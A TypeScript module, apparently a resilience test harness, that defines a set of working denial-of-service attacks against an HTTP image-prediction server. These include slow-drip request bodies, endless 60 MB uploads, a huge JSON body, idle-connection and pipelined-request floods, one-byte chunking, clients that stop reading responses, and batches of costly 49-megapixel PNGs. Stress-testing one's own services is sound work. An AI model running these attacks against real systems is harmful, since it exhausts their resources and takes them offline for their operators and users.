import { setTimeout as sleep } from 'node:timers/promises';
import sharp from 'sharp';
import { clients, firstOf, head, hold, open, type Target, write } from './connection.ts';

export interface Attack {
  readonly name: string;
  readonly run: (target: Target) => Promise<void>;
}

const CHUNKED = { 'transfer-encoding': 'chunked' } as const;
const JSON_BODY = { 'content-type': 'application/json' } as const;
const MEGABYTE = Buffer.alloc(1_000_000);

/** Sends the start of a body, then a few bytes each second. */
const dripping = (bytes: number, bytesASecond: number) => (target: Target) =>
  clients(target, 240, async (client) => {
    const socket = await open(target, client);
    if (!socket) return;
    await write(socket, head('/predict', { 'content-length': bytes + 1_000_000 }));
    await write(socket, Buffer.alloc(bytes));
    while (!socket.destroyed) {
      await sleep(1000);
      socket.write(Buffer.alloc(bytesASecond));
    }
  });

/** 49 megapixels in 200 KB. */
const costliest = () =>
  sharp({
    create: { width: 7000, height: 7000, channels: 4, background: { r: 1, g: 2, b: 3, alpha: 0.5 } },
  })
    .png()
    .toBuffer();

const batches = (abandonAfterMs: number) => async (target: Target) => {
  const image = (await costliest()).toString('base64');
  const body = JSON.stringify({ images: Array.from({ length: 4 }, () => image) });
  await clients(target, 16, async (client) => {
    const socket = await open(target, client);
    if (!socket) return;
    await write(socket, head('/predict/batch', { ...JSON_BODY, 'content-length': body.length }) + body);
    await Promise.race([sleep(abandonAfterMs), firstOf(socket, 'data', 'close')]);
    socket.resetAndDestroy();
  });
};

export const ATTACKS: readonly Attack[] = [
  { name: '240 bodies at one byte a second', run: dripping(1, 1) },
  { name: '240 bodies of 400 KB, then 2 KB a second', run: dripping(400_000, 2000) },
  {
    name: '32 bodies of 60 MB that never end',
    run: (target) =>
      clients(target, 32, async (client) => {
        const socket = await open(target, client);
        if (!socket) return;
        const type = { 'content-type': 'multipart/form-data; boundary=b' };
        await write(socket, head('/predict/batch', { ...type, 'content-length': 61_000_000 }));
        for (let sent = 0; sent < 60; sent += 1) await write(socket, MEGABYTE);
        await hold(socket, target.signal);
      }),
  },
  {
    name: '16 bodies of 60 MB of JSON, 20 million objects each',
    run: async (target) => {
      const body = Buffer.from(`{"images":[${'{},'.repeat(20_000_000)}{}]}`);
      await clients(target, 16, async (client) => {
        const socket = await open(target, client);
        if (!socket) return;
        await write(
          socket,
          head('/predict/batch', { ...JSON_BODY, 'content-length': body.length, connection: 'close' }),
        );
        await write(socket, body);
        await hold(socket, target.signal);
      });
    },
  },
  {
    name: '900 connections that send nothing',
    run: (target) =>
      clients(target, 900, async (client) => {
        const socket = await open(target, client);
        if (socket) await hold(socket, target.signal);
      }),
  },
  {
    name: '200 connections with chunks of one byte',
    run: (target) =>
      clients(target, 200, async (client) => {
        const socket = await open(target, client);
        if (!socket) return;
        await write(socket, head('/predict', CHUNKED) + '1\r\nx\r\n'.repeat(20_000));
        await hold(socket, target.signal);
      }),
  },
  {
    name: '20 connections with 1500 requests in one packet',
    run: (target) =>
      clients(target, 20, async (client) => {
        const socket = await open(target, client);
        if (!socket) return;
        await write(socket, 'GET /model/labels HTTP/1.1\r\nhost: localhost\r\n\r\n'.repeat(1500));
        await hold(socket, target.signal);
      }),
  },
  {
    name: '400 connections that do not read 1.4 MB',
    run: (target) =>
      clients(target, 400, async (client) => {
        const socket = await open(target, client);
        if (!socket) return;
        socket.pause();
        await write(socket, 'GET /docs/swagger-ui.js HTTP/1.1\r\nhost: localhost\r\n\r\n');
        await hold(socket, target.signal);
      }),
  },
  { name: 'Batches of the costliest images, 16 clients', run: batches(60_000) },
  { name: 'The same, abandoned after 0.3 s', run: batches(300) },
];
